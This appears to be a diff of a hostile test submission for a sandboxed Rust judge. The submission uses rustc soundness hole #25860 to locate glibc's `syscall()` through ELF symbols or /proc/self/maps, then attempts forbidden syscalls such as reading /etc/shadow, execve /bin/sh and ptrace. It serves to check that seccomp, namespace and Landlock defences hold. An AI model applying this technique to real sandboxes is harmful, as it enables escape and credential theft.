@@ -1,6 +1,6 @@
 //! expected-verdict: accepted
 //! mode: submit
-//! attack: uses the #25860 soundness hole to turn the address of glibc's `syscall()` (found in its own ELF symbol table, read from /prog) into a safe fn pointer, then makes raw syscalls: socket (also via the x32 ABI), fork, clone, clone3, kill/tgkill of init and the parent (signal 0), unshare(NEWUSER/NEWNET), keyctl, io_uring_setup, userfaultfd, openat /etc/shadow, symlinkat, mknodat, chmod /prog, execve /bin/sh, ptrace(TRACEME)
+//! attack: uses the #25860 soundness hole to turn the address of glibc's `syscall()` (found in its own ELF symbol table, read from /prog, when glibc is linked in; else in libc.so.6's dynamic symbols, at the base /proc/self/maps shows) into a safe fn pointer, then makes raw syscalls: socket (also via the x32 ABI), fork, clone, clone3, kill/tgkill of init and the parent (signal 0), unshare(NEWUSER/NEWNET), keyctl, io_uring_setup, userfaultfd, openat /etc/shadow, symlinkat, mknodat, chmod /prog, execve /bin/sh, ptrace(TRACEME)
 //! defence: with forbid(unsafe_code) bypassed only the kernel layers remain: seccomp (ENOSYS; x32 numbers are not on the list), the pid/user namespaces and Landlock make every call fail while getpid works -> accepted; any call that succeeds is printed and answered wrong -> wrong_answer; a broken gadget panics -> runtime_error
 
 // ---- rust-lang/rust#25860 (implied bounds on a fn pointer), as packaged by cve-rs ----
@@ -57,13 +57,14 @@ fn le(bytes: &[u8], at: usize, n: usize) -> Option<u64> {
     Some(b.iter().rev().fold(0u64, |acc, &x| acc << 8 | u64::from(x)))
 }
 
-/// Addresses (link-time) of the first function symbols matching each predicate.
-fn symbols(elf: &[u8], want: &[&dyn Fn(&[u8]) -> bool]) -> Option<Vec<u64>> {
+/// Addresses (link-time) of the first function symbols matching each predicate, from the
+/// first section of `kind` (2: the full symbol table; 11: the dynamic symbols).
+fn symbols(elf: &[u8], kind: u64, want: &[&dyn Fn(&[u8]) -> bool]) -> Option<Vec<u64>> {
     let shoff = le(elf, 0x28, 8)? as usize;
     let shentsize = le(elf, 0x3a, 2)? as usize;
     let shnum = le(elf, 0x3c, 2)? as usize;
     let section = |i: usize| shoff + i * shentsize;
-    let symtab = (0..shnum).find(|&i| le(elf, section(i) + 4, 4) == Some(2))?;
+    let symtab = (0..shnum).find(|&i| le(elf, section(i) + 4, 4) == Some(kind))?;
     let (off, size) = (
         le(elf, section(symtab) + 24, 8)? as usize,
         le(elf, section(symtab) + 32, 8)? as usize,
@@ -97,9 +98,32 @@ fn gadget() -> Result<Syscall, String> {
         .ok_or("cannot read my own binary")?;
     let is_marker = |n: &[u8]| n.windows(17).any(|w| w == b"hostile_marker_fn");
     let is_syscall = |n: &[u8]| n == b"syscall";
-    let found = symbols(&elf, &[&is_marker, &is_syscall]).ok_or("symbols not found")?;
-    let runtime = hostile_marker_fn as fn() -> u64 as usize as u64;
-    let address = runtime.wrapping_sub(found[0]).wrapping_add(found[1]);
+    let address = match symbols(&elf, 2, &[&is_marker, &is_syscall]) {
+        // glibc linked in: `syscall` sits at a fixed distance from our own function.
+        Some(found) => {
+            let runtime = hostile_marker_fn as fn() -> u64 as usize as u64;
+            runtime.wrapping_sub(found[0]).wrapping_add(found[1])
+        }
+        // glibc loaded: its first mapping is its load address.
+        None => {
+            let maps = std::fs::read_to_string("/proc/self/maps").map_err(|e| e.to_string())?;
+            let libc = maps
+                .lines()
+                .find(|l| {
+                    l.ends_with("libc.so.6") && l.split_whitespace().nth(2) == Some("00000000")
+                })
+                .ok_or("symbols not found: no libc in /proc/self/maps")?;
+            let base = libc
+                .split('-')
+                .next()
+                .and_then(|b| u64::from_str_radix(b, 16).ok())
+                .ok_or("unreadable maps line")?;
+            let path = libc.split_whitespace().last().unwrap_or_default();
+            let lib = std::fs::read(path).map_err(|e| format!("{path}: {e}"))?;
+            let found = symbols(&lib, 11, &[&is_syscall]).ok_or("symbols not found in libc")?;
+            base.wrapping_add(found[0])
+        }
+    };
     let sys = transmute::<usize, Syscall>(address as usize);
     // Proof that the gadget works: getpid must agree with std.
     let pid = sys(39, 0, 0, 0, 0, 0, 0);
